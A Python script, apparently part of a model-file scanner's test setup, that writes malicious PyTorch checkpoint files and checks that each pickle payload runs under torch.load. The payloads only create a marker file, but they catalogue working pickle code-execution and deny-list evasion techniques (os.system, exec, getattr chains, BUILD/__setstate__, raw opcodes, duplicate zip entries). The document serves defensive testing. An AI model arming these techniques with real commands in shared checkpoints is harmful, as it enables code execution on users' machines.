#!/usr/bin/python3
"""Writes the hostile checkpoint corpus into $TALLY_FIXTURES/hostile/ and proves each payload live.

Usage: /usr/bin/python3 scripts/export_hostile.py --out FIXTURES_DIR

Every file is something `torch.load` reads: torch.save of objects whose __reduce__ runs a payload, and
hand-written opcodes for what torch.save never writes (protocol 0/1, dotted protocol-4 names, calls of call
results, BUILD/__setstate__, INST/OBJ/NEWOBJ, EXT codes, persistent ids, damage after a payload, tar and legacy
formats, duplicate zip entries, nested _load_from_bytes payloads, TorchScript-shaped archives).

The only thing any payload does is create the file `tally_hostile_marker` in the current folder (a relative
path, nothing else: no network, no other file). Each file is then loaded with torch.load in a child process
whose working folder is a fresh temporary folder; the payload is "live" when the marker appears there.
manifest.json lists every file with its kind, whether the payload was proven live, and (for duplicate entries)
which copy ran. The script fails when a payload expected to run does not: the corpus must be real.

Cache: the folder is reused when stamp holds the hash of this script and the torch version.
"""
import argparse
import hashlib
import io
import json
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

import torch

MARKER = "tally_hostile_marker"
SHELL = "touch " + MARKER
CODE = "open(%r, 'w').close()" % MARKER


# --- torch.save of objects whose __reduce__ runs a payload -----------------------------------------------------

class Reduce:
    """Pickles as a call of `func(*args)`; torch.save writes it as GLOBAL + REDUCE."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def saved(obj, legacy=False):
    buffer = io.BytesIO()
    torch.save({"weight": torch.ones(2, 2), "payload": obj}, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


# --- hand-written opcodes -------------------------------------------------------------------------------------

def unicode(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def stack_global(module, name):
    return unicode(module) + unicode(name) + b"\x93"


def p4(body):
    """A protocol-4 pickle (PROTO 4, FRAME-less) of `body`, ending in STOP."""
    return b"\x80\x04" + body + b"."


def call(callee, *args):
    """callee(*args) with unicode string arguments, protocol 2+ opcodes."""
    return callee + b"(" + b"".join(args) + b"tR"


def zip_with(records, name="archive", duplicates=()):
    """A torch.save-shaped zip: {record: bytes}; duplicates are extra (record, bytes) entries appended after."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
        for record, data in records.items():
            z.writestr(f"{name}/{record}", data)
        for record, data in duplicates:
            import warnings
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                z.writestr(f"{name}/{record}", data)
    return buffer.getvalue()


CLEAN_PICKLE = b"\x80\x02}q\x00."


def tar_with(members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def cases():
    """(name, kind, bytes, expected live or None when either is fine, malicious copy of a duplicate) per file."""
    os_system = stack_global("os", "system")
    shell = unicode(SHELL)
    out = []

    def add(name, kind, data, live=True, malicious_copy=None):
        out.append((name, kind, data, live, malicious_copy))

    # Globals the old deny-list missed, through torch.save.
    import timeit, cProfile, codecs, logging, pydoc, imaplib, subprocess as sp
    import torch.utils.collect_env as collect_env
    import torch.fx.graph_module as graph_module
    import numpy.testing._private.utils as np_utils
    add("reduce_os_system", "shell", saved(Reduce(os.system, SHELL)))
    add("reduce_subprocess_call", "shell", saved(Reduce(sp.call, ["touch", MARKER])))
    add("reduce_pydoc_pipepager", "shell", saved(Reduce(pydoc.pipepager, "x", "cat > " + MARKER)))
    add("reduce_imaplib_stream", "shell", saved(Reduce(imaplib.IMAP4_stream, SHELL)))
    add("reduce_collect_env_run", "shell", saved(Reduce(collect_env.run, SHELL)))
    add("reduce_builtins_exec", "code execution", saved(Reduce(exec, CODE)))
    add("reduce_builtins_eval", "code execution", saved(Reduce(eval, CODE)))
    add("reduce_timeit", "code execution", saved(Reduce(timeit.timeit, CODE, "pass", timeit.default_timer, 1)))
    add("reduce_cprofile_run", "code execution", saved(Reduce(cProfile.run, CODE)))
    add("reduce_fx_exec_with_source", "code execution", saved(Reduce(graph_module._exec_with_source, CODE, {})))
    add("reduce_numpy_runstring", "code execution", saved(Reduce(np_utils.runstring, CODE, {})))
    add("reduce_io_open", "file system", saved(Reduce(io.open, MARKER, "w")))
    add("reduce_codecs_open", "file system", saved(Reduce(codecs.open, MARKER, "w")))
    add("reduce_logging_filehandler", "file system", saved(Reduce(logging.FileHandler, MARKER)))
    inner = io.BytesIO()
    torch.save(Reduce(os.system, SHELL), inner)
    add("reduce_nested_load_from_bytes", "nested loader", saved(Reduce(torch.storage._load_from_bytes, inner.getvalue())))
    add("reduce_torch_load_nested", "nested loader", saved(Reduce(pickle.loads, pickle.dumps(Reduce(os.system, SHELL)))))
    add("legacy_format_os_system", "legacy format", saved(Reduce(os.system, SHELL), legacy=True))
    # A whole pickled module: no payload, but torch.load imports and calls torch.nn classes.
    buffer = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), buffer)
    add("pickled_module_linear", "pickled module", buffer.getvalue(), live=False)

    # Hand-written opcodes, inside a torch.save-shaped zip unless said otherwise.
    def pkl(name, kind, pickle_bytes, live=True):
        add(name, kind, zip_with({"data.pkl": pickle_bytes, "version": b"3\n"}), live)

    pkl("dotted_posixpath_os_system", "protocol-4 dotted name", p4(call(stack_global("posixpath", "os.system"), shell)))
    pkl("dotted_torch_os_system", "protocol-4 dotted name", p4(call(stack_global("torch", "os.system"), shell)))
    getattr_import = call(stack_global("builtins", "getattr"), call(stack_global("builtins", "__import__"), unicode("os")), unicode("system"))
    pkl("call_of_getattr_result", "call of a call result", p4(call(getattr_import, shell)))
    partial = call(stack_global("functools", "partial"), os_system, shell)
    pkl("call_of_partial_result", "call of a call result", p4(partial + b")R"))
    methodcaller = call(stack_global("operator", "methodcaller"), unicode("system"), shell)
    pkl("call_of_methodcaller_result", "call of a call result",
        p4(call(methodcaller, call(stack_global("builtins", "__import__"), unicode("os")))))
    attrgetter = call(stack_global("operator", "attrgetter"), unicode("system"))
    pkl("call_of_attrgetter_result", "call of a call result",
        p4(call(call(attrgetter, call(stack_global("builtins", "__import__"), unicode("os"))), shell)))
    # BUILD: the first sets an instance attribute __setstate__ = os.system, the second calls it.
    namespace = call(stack_global("argparse", "Namespace"))
    pkl("build_setstate", "BUILD/__setstate__", p4(namespace + b"}" + unicode("__setstate__") + os_system + b"sb" + shell + b"b"))
    pkl("inst_opcode", "INST", b"(S'" + SHELL.encode() + b"'\nios\nsystem\n.")
    pkl("obj_opcode", "OBJ", b"(cos\nsystem\nS'" + SHELL.encode() + b"'\no.")
    pkl("newobj_opcode", "NEWOBJ", p4(stack_global("subprocess", "Popen") + b"(" + unicode("x") + b"t\x81"), live=False)
    pkl("newobj_ex_opcode", "NEWOBJ_EX", p4(stack_global("subprocess", "Popen") + b")}\x92"), live=False)
    pkl("ext1_opcode", "EXT1", p4(b"\x82\x07" + b"(" + shell + b"tR"), live=False)
    pkl("ext2_opcode", "EXT2", p4(b"\x83\x07\x01" + b"(" + shell + b"tR"), live=False)
    pkl("ext4_opcode", "EXT4", p4(b"\x84\x07\x01\x00\x00" + b"(" + shell + b"tR"), live=False)
    payload = call(os_system, shell)
    pkl("persistent_id_not_storage", "persistent id", p4(b"(" + payload + b"(" + unicode("module") + b"tQt"))
    pkl("damage_truncated_after_payload", "damage after a finding", p4(b"(" + payload + b"(" + unicode("x"))[:-1])
    pkl("damage_bad_opcode_after_payload", "damage after a finding", p4(b"(" + payload + b"\xff"))
    storage = b"(" + unicode("storage") + stack_global("torch", "FloatStorage") + unicode("9") + unicode("cpu") + b"K\x04tQ"
    tensor = call(stack_global("torch._utils", "_rebuild_tensor_v2"), storage, b"K\x00", b"K\x04\x85", b"K\x01\x85", b"\x89",
                  call(stack_global("collections", "OrderedDict")))
    pkl("damage_missing_storage_after_payload", "damage after a finding", p4(b"(" + payload + tensor + b"t"))
    bad_tensor = call(stack_global("torch._utils", "_rebuild_tensor_v2"), storage, unicode("x"), unicode("y"), b"K\x01\x85", b"\x89",
                      call(stack_global("collections", "OrderedDict")))
    pkl("damage_bad_tensor_args_after_payload", "damage after a finding", p4(b"(" + payload + bad_tensor + b"t"))
    deep = b"]" * 100000 + b"a" * 99999
    pkl("deep_nesting_after_payload", "nesting", p4(b"(" + payload + deep + b"t"))
    pkl("self_reference_after_payload", "nesting", p4(b"(" + payload + b"]\x94h\x00a" + b"t"))

    # Formats torch.load reads besides the zip.
    add("protocol0_bare", "protocol 0", b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.")
    add("protocol1_bare", "protocol 1", b"cos\nsystem\n(U" + bytes([len(SHELL)]) + SHELL.encode() + b"tR.")
    add("protocol2_bare", "protocol 2", b"\x80\x02cos\nsystem\nq\x00X" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"\x85R.")
    add("protocol5_bare", "protocol 5", b"\x80\x05" + call(os_system, shell) + b".")
    add("tar_format_storages", "tar format",
        tar_with([("sys_info", pickle.dumps({}, 2)), ("storages", b"\x80\x02" + call(os_system, shell) + b"."),
                  ("tensors", pickle.dumps(0, 2)), ("pickle", CLEAN_PICKLE)]))
    add("tar_format_pickle", "tar format",
        tar_with([("sys_info", pickle.dumps({}, 2)), ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
                  ("tensors", pickle.dumps(0, 2)), ("pickle", b"\x80\x02" + call(os_system, shell) + b".")]))

    # Archives with several pickles.
    malicious = p4(call(os_system, shell))
    add("duplicate_data_pkl_first_malicious", "duplicate entry",
        zip_with({"data.pkl": malicious, "version": b"3\n"}, duplicates=[("data.pkl", CLEAN_PICKLE)]), live=None, malicious_copy=1)
    add("duplicate_data_pkl_last_malicious", "duplicate entry",
        zip_with({"data.pkl": CLEAN_PICKLE, "version": b"3\n"}, duplicates=[("data.pkl", malicious)]), live=None, malicious_copy=2)
    add("torchscript_constants_pkl", "TorchScript archive",
        zip_with({"data.pkl": CLEAN_PICKLE, "constants.pkl": malicious, "code/__torch__.py": b"", "version": b"3\n"}), live=False)
    add("torchscript_shaped_data_pkl", "TorchScript-shaped archive",
        zip_with({"data.pkl": malicious, "code/__torch__.py": b"", "version": b"3\n"}))
    add("extra_file_pickle", "extra file",
        zip_with({"data.pkl": CLEAN_PICKLE, "extra/meta.pkl": malicious, "version": b"3\n"}), live=False)
    return out


def prove(path):
    """torch.load in a child process with a fresh temporary working folder; True when the marker appeared."""
    with tempfile.TemporaryDirectory() as folder:
        code = "import sys, torch\ntry:\n    torch.load(sys.argv[1])\nexcept BaseException:\n    pass\n"
        subprocess.run([sys.executable, "-c", code, os.path.abspath(path)], cwd=folder, timeout=120,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return os.path.exists(os.path.join(folder, MARKER))


def allowed_globals():
    """PyTorch's own weights_only allow-list, for the Java test to compare Tally's against."""
    from torch._weights_only_unpickler import _get_allowed_globals
    return sorted(_get_allowed_globals().keys())


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", required=True)
    out = os.path.join(parser.parse_args().out, "hostile")
    with open(__file__, "rb") as source:
        key = hashlib.sha256(source.read() + torch.__version__.encode()).hexdigest()
    stamp = os.path.join(out, "stamp")
    if os.path.exists(stamp) and open(stamp).read().strip() == key:
        print(f"hostile corpus in {out} is up to date")
        return 0
    shutil.rmtree(out, ignore_errors=True)
    os.makedirs(out)
    files = []
    failures = []
    for name, kind, data, expected, malicious_copy in cases():
        path = os.path.join(out, name + ".pth")
        with open(path, "wb") as f:
            f.write(data)
        live = prove(path)
        entry = {"file": name + ".pth", "kind": kind, "live": live}
        if malicious_copy is not None:
            entry["maliciousCopy"] = malicious_copy
        files.append(entry)
        if expected is not None and live != expected:
            failures.append(f"{name}: payload live={live}, expected {expected}")
    manifest = {"torch": torch.__version__, "marker": MARKER, "files": files, "weightsOnlyAllowList": allowed_globals()}
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    live = sum(1 for f in files if f["live"])
    print(f"hostile corpus: {len(files)} files, {live} payloads proven live under torch.load, in {out}")
    if failures:
        print("export_hostile.py: these payloads did not behave as expected:\n  " + "\n  ".join(failures), file=sys.stderr)
        return 1
    with open(stamp, "w") as f:
        f.write(key + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
